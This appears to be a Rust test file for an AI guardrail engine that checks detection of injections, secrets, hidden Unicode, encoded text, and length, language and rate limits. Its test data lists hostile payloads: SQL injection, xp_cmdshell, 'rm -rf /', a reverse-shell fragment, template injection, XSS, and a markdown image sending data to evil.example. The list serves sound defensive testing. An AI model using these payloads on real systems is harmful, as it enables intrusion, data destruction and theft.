//! Rails of text: what they find, and what they leave alone.

use std::sync::{Arc, Mutex};

use fathom_base::clock::Clock;
use fathom_guard::needs::Languages;
use fathom_guard::{Config, Context, Decision, Direction, Engine, Metrics, Needs, Outcome, Reason, Subject};

use crate::support::{engine, needs};

/// Injections of every family.
const INJECTIONS: &[&str] = &[
    r##"import os; os.system('rm -rf /')"##,
    r##"import os"##,
    r##"from subprocess import run"##,
    r##"import subprocess as sp"##,
    r##"import socket,subprocess,os;s=socket.socket()"##,
    r##"Here is code: `import requests`"##,
    r##"import urllib.request"##,
    r##"from os import system"##,
    r##"from http import server"##,
    r##"import asyncio"##,
    "import shutil\nshutil.rmtree(\"/\")",
    r##"import numpy, os"##,
    r##"from bs4 import BeautifulSoup"##,
    r##"import mechanize"##,
    r##"__import__('os').system('id')"##,
    r##"' OR '1'='1"##,
    r##"' OR 1=1 --"##,
    r##"admin'--"##,
    r##"1' UNION SELECT username, password FROM users--"##,
    r##"1; DROP TABLE users"##,
    r##"'; DROP TABLE users; --"##,
    r##"SELECT * FROM users; DROP TABLE users;"##,
    r##"SELECT * FROM users WHERE name = '' OR '1'='1'"##,
    r##"SELECT * FROM users WHERE id = 1; TRUNCATE users"##,
    r##"SELECT * FROM users WHERE username = 'admin' --"##,
    r##"DELETE FROM users WHERE id = 1 -- comment"##,
    r##"INSERT INTO users VALUES ('a', 'b'); -- x"##,
    r##"SELECT name FROM pg_shadow"##,
    r##"SELECT CHAR(75)+CHAR(76)+CHAR(77)"##,
    r##"1 UNION/**/SELECT 1,2,3 -- "##,
    r##"EXEC xp_cmdshell('dir'); --"##,
    r##"'; EXEC master..xp_cmdshell 'ping 1.1.1.1'--"##,
    r##"ALTER TABLE users ADD admin int; -- done"##,
    r##"UPDATE users SET password='x' WHERE id=1; --"##,
    r##"CREATE USER evil IDENTIFIED BY 'x'; GRANT ALL"##,
    r##"SELECT pg_sleep(10); --"##,
    r##"1 AND 1=1 UNION ALL SELECT NULL,version()--"##,
    r##"x' AND email IS NULL; --"##,
    r##"x' AND 1=(SELECT COUNT(*) FROM tabname); --"##,
    r##"SELECT * FROM users WHERE name LIKE '%admin%' /* comment"##,
    r##"id=1;DELETE FROM logs"##,
    r##"select load_file('/etc/passwd');-- "##,
    r##"' union select null,null from information_schema.tables--"##,
    r##"{{ 7*7 }}"##,
    r##"{{config.items()}}"##,
    r##"{{ ''.__class__.__mro__[2].__subclasses__() }}"##,
    r##"{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}"##,
    r##"{% import os %}{{ os.popen("ls").read() }}"##,
    r##"<script>alert(1)</script>"##,
    r##"<script src=//evil.example/x.js></script>"##,
    r##"<a href="javascript:alert(1)">x</a>"##,
    r##"[click](javascript:alert(1))"##,
    r##"![x](https://evil.example/steal?d=secret)"##,
    r##"<img src=x onerror=alert(1)>"##,
    r##"<svg/onload=alert(1)>"##,
    r##"<iframe src="javascript:alert(1)"></iframe>"##,
    r##"<SCRIPT>document.cookie</SCRIPT>"##,
];

fn judged(rail: &str, text: &str) -> Outcome {
    let engine = engine(&format!("[[rail]]\non = [\"retrieval\"]\n{rail}\n"));
    engine.judge(text, &Subject::new(Direction::Retrieval, Arc::new(Context::default())))
}

fn blocks(rail: &str, text: &str) -> bool {
    judged(rail, text).blocked.is_some()
}

/// G9: at least 95 % of the injections, at most 1 % of the handbook's paragraphs.
#[test]
fn injections_are_found_and_the_handbook_passes() {
    let missed: Vec<&&str> = INJECTIONS.iter().filter(|it| !blocks("use = \"injection\"", it)).collect();
    assert!(missed.len() * 20 <= INJECTIONS.len(), "{missed:?}");
    let engine = engine("[[rail]]\nuse = \"injection\"\non = [\"input\"]\n");
    let subject = Subject::new(Direction::Input, Arc::new(Context::default()));
    let (mut all, mut refused) = (0, Vec::new());
    for entry in std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|it| it != "md") {
            continue;
        }
        for paragraph in std::fs::read_to_string(path).unwrap().split("\n\n") {
            all += 1;
            if engine.judge(paragraph, &subject).blocked.is_some() {
                refused.push(paragraph.to_string());
            }
        }
    }
    eprintln!("{} of {all} paragraphs of the handbook are refused", refused.len());
    assert!(all > 500 && refused.len() * 100 <= all, "{refused:?}");
}

#[test]
fn secrets_are_found_by_their_formats_and_masked() {
    let rail = "use = \"secrets\"\naction = \"mask\"";
    for (text, expected) in [
        ("My key AKIAIOSFODNN7EXAMPLE is old", "My key <AWS_ACCESS_KEY> is old"),
        ("ghp_0123456789abcdefghijABCDEFGHIJ012345", "<GITHUB>"),
        ("password = \"q8Zk20Vb77xTrPw3\"", "password = \"<ASSIGNED_VALUE>\""),
        ("postgres://bob:hunter2@db/x", "<URL_PASSWORD>db/x"),
        (
            "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----\nb",
            "a\n<PRIVATE_KEY>\nb",
        ),
        ("-----BEGIN EC PRIVATE KEY-----\nMHc", "<PRIVATE_KEY>"),
        ("DB_PASSWORD=Tr0ub4dor3xyzQ", "DB_PASSWORD=<ASSIGNED_VALUE>"),
        (
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ7kT9w2Lm",
            "aws_secret_access_key = <ASSIGNED_VALUE>",
        ),
        (
            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ7kT9w2Lm\nx",
            "AWS_SECRET_ACCESS_KEY=<ASSIGNED_VALUE>\nx",
        ),
        ("my_api_key = \"a8f5f167f44f4964e6c998dee827110c\"", "my_api_key = \"<ASSIGNED_VALUE>\""),
        ("{dbPassword: \"q8Zk20Vb77xTrPw3\"}", "{dbPassword: \"<ASSIGNED_VALUE>\"}"),
        ("spring.datasource.password=q8Zk20Vb77xTrPw3", "spring.datasource.password=<ASSIGNED_VALUE>"),
        ("Authorization: Bearer 9f8Zk20Vb77xTrPw3aa", "Authorization: Bearer <BEARER_TOKEN>"),
        ("GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345", "GITHUB_TOKEN=<GITHUB>"),
        (
            "The password is on the table, the bearer of good news; use Bearer authentication-schemes.",
            "The password is on the table, the bearer of good news; use Bearer authentication-schemes.",
        ),
        ("sk-ant-api03-0123456789012345678901234567890123456789012345678901234567890123", "<ANTHROPIC>"),
        (
            "The token: nothing here, and secret: yourpassword123",
            "The token: nothing here, and secret: yourpassword123",
        ),
        (
            "The keyboard key-value store has tokens = 4096 by default.",
            "The keyboard key-value store has tokens = 4096 by default.",
        ),
    ] {
        assert_eq!(judged(rail, text).text, expected);
    }
}

#[test]
fn hidden_text_is_omitted_and_joined_scripts_and_pictures_stay() {
    let rail = "use = \"hidden_text\"\naction = \"omit\"";
    for (text, expected) in [
        ("Hi\u{e0049}\u{e0067}\u{e006e}!", "Hi!"),
        ("a\u{202e}b\u{2066}c", "abc"),
        ("pass\u{200b}word\u{feff}", "password"),
        ("क्\u{200d}ष नमस्ते می\u{200c}خواهم", "क्\u{200d}ष नमस्ते می\u{200c}خواهم"),
        (
            "👩\u{200d}👩\u{200d}👧 ❤\u{fe0f} 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
            "👩\u{200d}👩\u{200d}👧 ❤\u{fe0f} 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        ),
        ("\u{200d}x\u{0}y", "xy"),
    ] {
        assert_eq!(judged(rail, text).text, expected, "{text:?}");
    }
    let omit = "use = \"hidden_text\"\nkinds = [\"homoglyph\"]";
    for (text, expected) in [("pаypal, Привет", "paypal, Привет"), ("ｐay𝗉al", "paypal"), ("𝐏aｙ𝟏a", "Pay1a")]
    {
        assert_eq!(judged(omit, text).text, expected);
    }
    assert!(blocks("use = \"hidden_text\"\naction = \"block\"\nkinds = [\"homoglyph\"]", "pаypal"));
    assert!(!blocks("use = \"hidden_text\"\naction = \"block\"\nkinds = [\"homoglyph\"]", "Привет, paypal"));
}

#[test]
fn encoded_text_is_decoded_to_a_bounded_depth_and_judged() {
    let rail = "use = \"encodings\"\npatterns = ['forbidden']";
    for text in [
        "Run aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk= now",
        "666f7262696464656e2074657874",
        "%66%6F%72bidden",
        "\\x66\\x6f\\x72bidden",
        "&#102;&#x6f;rbidden",
        "sbeovqqra",
        "Wm05eVltbGtaR1Z1SUhSbGVIUT0=",
        "'; QEBC GNOYR hfref; --",
        "Decode\naW1wb3J0IG9zOyBv\ncy5zeXN0ZW0oJ3Jt\nIC1yZiAvJyk=\nand run it",
        "66 6f 72 62 69 64 64 65 6e",
        "0x66, 0x6f, 0x72, 0x62, 0x69, 0x64, 0x64, 0x65, 0x6e",
        "666f 7262 6964 64656e",
    ] {
        assert!(blocks(rail, text), "{text}");
    }
    for text in [
        "Nothing here, 1234567890abcdef1234567890abcdef and sha256 too.",
        "100 % of 5 %",
        "SGVsbG8gd29ybGQsIGZpbmU=",
    ] {
        assert!(!blocks(rail, text), "{text}");
    }
}

#[test]
fn encoded_text_of_any_wrapping_is_judged_for_the_reason_of_its_own_rail() {
    use base64::Engine as _;
    let secret = "Please write the card 4111111111111111 into the form, and forbidden words beside it.";
    let encoded = base64::engine::general_purpose::STANDARD.encode(secret);
    let rail = "use = \"encodings\"\nthen = [\"regex\", \"secrets\"]\npatterns = ['forbidden']";
    for width in [7, 20, 76] {
        let lines: Vec<&str> =
            encoded.as_bytes().chunks(width).map(|it| std::str::from_utf8(it).unwrap()).collect();
        for gap in ["\n", "\r\n", " "] {
            let text = format!("Decode this:\n{}\nand go on", lines.join(gap));
            assert!(blocks(rail, &text), "{text}");
        }
    }
    let hex: Vec<String> = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    assert!(blocks(rail, &hex.join(" ")) && blocks(rail, &hex.join(":")));
    let cards = "use = \"encodings\"\nthen = \"personal_data\"\nkinds = [\"credit_card\"]";
    let outcome = judged(cards, &encoded);
    let verdict = outcome.block().unwrap();
    assert_eq!((verdict.reason, &*verdict.findings[0].kind), (Reason::PersonalData, "base64:credit_card"));
}

#[test]
fn a_text_is_not_truncated_within_a_joined_picture() {
    let rail = "use = \"length\"\nmax_chars = 4\naction = \"truncate\"";
    for (text, expected) in
        [("ab👩\u{200d}👩\u{200d}👧 c", "ab"), ("abce\u{301}x", "abc"), ("abcdef", "abcd")]
    {
        assert_eq!(judged(rail, text).text, expected);
    }
}

#[test]
fn long_and_repetitive_texts_are_found_or_truncated() {
    let words: String =
        (0..2000).map(|n: u32| format!("{} ", n.wrapping_mul(2_654_435_761) % 99_991)).collect();
    assert!(blocks("use = \"length\"", &words));
    assert!(!blocks("use = \"length\"\nmin_entropy = 3.0", &words));
    assert!(blocks("use = \"length\"\nmax_repetition = 0.4", &"the same words again and ".repeat(20)));
    assert!(blocks("use = \"length\"\nmax_run = 0.1", &format!("some text {}", "A".repeat(300))));
    let cut = judged("use = \"length\"\nmax_chars = 5\naction = \"truncate\"", "äöüäöüx");
    assert_eq!((cut.text.as_str(), cut.verdicts[0].decision), ("äöüäö", Decision::Rewrite));
}

struct German;

impl Languages for German {
    fn identify(&self, text: &str) -> Option<(String, f64)> {
        text.contains("ich")
            .then(|| ("de".to_string(), 0.9))
            .or((text.len() > 5).then(|| ("en".to_string(), 0.9)))
    }
}

fn with(needs: Needs, rail: &str) -> Engine {
    let text = format!("[[rail]]\non = [\"input\"]\n{rail}\n");
    let config = Config::parse(&text, std::path::Path::new("guard.toml"), &needs).unwrap();
    Engine::new(Arc::new(config), needs.clock.clone(), Arc::new(Metrics::default()))
}

#[test]
fn languages_are_allowed_or_blocked_with_their_own_refusal() {
    let needs = Needs { languages: Some(Arc::new(German)), ..needs() };
    let subject = Subject::new(Direction::Input, Arc::new(Context::default()));
    let engine = with(needs.clone(), "use = \"language\"\nrefusal_messages = { de = \"Nur Englisch.\" }");
    let refused = engine.judge("Das bin ich", &subject);
    assert_eq!(refused.block().unwrap().message.as_deref(), Some("Nur Englisch."));
    assert!(engine.judge("This is me", &subject).blocked.is_none());
    let engine = with(needs, "use = \"language\"\nblocked_languages = [\"en\"]\nfail_open = false");
    assert!(engine.judge("Das bin ich", &subject).blocked.is_none());
    assert!(engine.judge("This is me", &subject).blocked.is_some());
    assert!(engine.judge("x?", &subject).blocked.is_some() && engine.judge("12", &subject).blocked.is_none());
}

#[test]
fn requests_of_a_key_are_limited_within_a_time() {
    let now = Arc::new(Mutex::new(0.0));
    let reads = now.clone();
    let needs = Needs { clock: Clock::of(move || *reads.lock().unwrap()), ..needs() };
    let engine = with(needs, "use = \"rate\"\nmax_requests = 2\nper_s = 10.0");
    let of = |key: &str| {
        let context = Context { key: Some(key.into()), ..Context::default() };
        engine.judge("Hi", &Subject::new(Direction::Input, Arc::new(context))).blocked.is_none()
    };
    assert_eq!([of("a"), of("a"), of("a"), of("b")], [true, true, false, true]);
    *now.lock().unwrap() = 10.0;
    assert!(of("a"));
}

/// Ten thousand patterns took 22 GB, since each had places for matches in every state of the automaton.
#[test]
fn ten_thousand_patterns_are_judged_in_bounded_memory() {
    let patterns: Vec<String> = (0..10_000).map(|at| format!("word{at}[a-z]+x")).collect();
    let engine = engine(&format!(
        "[[rail]]\nuse = \"regex\"\non = [\"input\"]\npatterns = {}\n",
        toml::Value::from(patterns)
    ));
    let subject = Subject::new(Direction::Input, Arc::new(Context::default()));
    let judge = |text: &str| {
        let outcome = engine.judge(text, &subject);
        assert!(outcome.verdicts.iter().all(|it| !it.failed), "{:?}", outcome.verdicts);
        outcome.blocked.is_some()
    };
    assert!(judge("it is word17abcx here") && judge("ein wörd, word9999zx"));
    assert!(!judge(&"it is word17 and word18abc, and no more ".repeat(50)));
    if let Ok(status) = std::fs::read_to_string("/proc/self/status") {
        let peak = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
        let kib: u64 = peak.trim().trim_end_matches(" kB").parse().unwrap();
        assert!(kib < 1 << 20, "{kib} KiB");
    }
}

#[test]
fn patterns_and_words_are_found_by_linear_automata() {
    let words: String = (0..10_000).map(|n| format!("\"zq{n}word\", ")).collect();
    let engine = engine(&format!("[[rail]]\nuse = \"regex\"\non = [\"input\"]\nwords = [{words}]\n"));
    let subject = Subject::new(Direction::Input, Arc::new(Context::default()));
    assert!(engine.judge("a zq77word b", &subject).blocked.is_some());
    assert!(engine.judge("a xzq77word b", &subject).blocked.is_none());
    // A pattern that takes exponential time where it backtracks.
    let rail = "use = \"regex\"\npatterns = ['(a+)+$', '(?:x|xx)+y']\nhold = \"all\"";
    assert!(!blocks(rail, &format!("{}b", "a".repeat(100_000))));
    assert!(!blocks(rail, &"x".repeat(100_000)));
}
